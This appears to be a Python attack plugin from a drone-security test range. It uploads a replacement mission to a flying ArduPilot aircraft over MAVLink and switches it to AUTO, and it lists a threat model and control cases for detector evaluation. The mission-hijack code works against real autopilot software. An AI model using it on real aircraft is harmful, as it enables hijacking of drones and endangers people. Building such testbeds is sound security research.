"""Mission replacement: another mission is uploaded in flight, by the whole dialogue, and started."""

from __future__ import annotations

from typing import Final, Literal

from pydantic import Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.mavlink.guided import Track
from skyrange.attack.mavlink.injection import Injection, Order, geodetic, inject, mode_order
from skyrange.attack.mavlink.script import Item, Script, Step, Upload
from skyrange.codec.mavlink import dialect as mav

_ENDS: Final = {
    "hold": mav.MAV_CMD_NAV_LOITER_UNLIM, "land": mav.MAV_CMD_NAV_LAND, "rtl": mav.MAV_CMD_NAV_RETURN_TO_LAUNCH
}  # fmt: skip


class MissionReplacement(Injection):
    """The mission that replaces that of the operator."""

    track: Track = Field(
        description="Waypoints of the mission, in order, each [east_m, north_m, up_m] in metres from the origin."
    )
    end: Literal["hold", "land", "rtl"] = Field(
        default="land", description="What the mission ends with, at the last waypoint: hold it, land, or return."
    )
    restart: bool = Field(
        default=True,
        description="Whether to start the mission from its first item, in AUTO; else the aircraft goes on at the item "
        "with the number of its present one.",
    )


def make(params: MissionReplacement, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    places = [geodetic(context.origin, place) for place in params.track]
    # item 0 is home to ArduPilot, which ignores what is uploaded for it (AP_Mission.cpp, AP_MISSION_FIRST_REAL_COMMAND)
    items = [Item(mav.MAV_CMD_NAV_WAYPOINT, place) for place in (places[0], *places)]
    items.append(Item(_ENDS[params.end], places[-1]))
    steps: list[Step] = [Upload(tuple(items))]
    if params.restart:
        steps += [Order(mav.MAV_CMD_DO_SET_MISSION_CURRENT, (1.0, 1.0)), mode_order(mav.COPTER_MODE_AUTO)]
    shown = {"end of the false mission": params.track[-1]}
    return Attack(taps=inject(params, context, Script, context.schedule, tuple(steps)), shown=shown)


MISSION_REPLACE = AttackPlugin(
    MissionReplacement,
    make,
    "Uploads another mission to the flying aircraft and starts it.",
    technique="T0843",
    surface=("gcs", "log", "autopilot"),
    persists="upload",
    effect="the aircraft flies a mission of the attacker in AUTO",
    places=(),
    threat=ThreatModel(
        knowledge="system ids, from any frame",
        position="on the network of the control link, where requests of the aircraft can be heard",
        equipment="a computer with a MAVLink library, such as any ground station",
        budget="one frame for each item, and three more",
    ),
    controls=Controls(
        load="none, because an upload to nobody is not answered; the sham sends its first frames in vain",
        content="the upload of the mission that the aircraft already has",
        placement="the same mission for another aircraft",
    ),
)
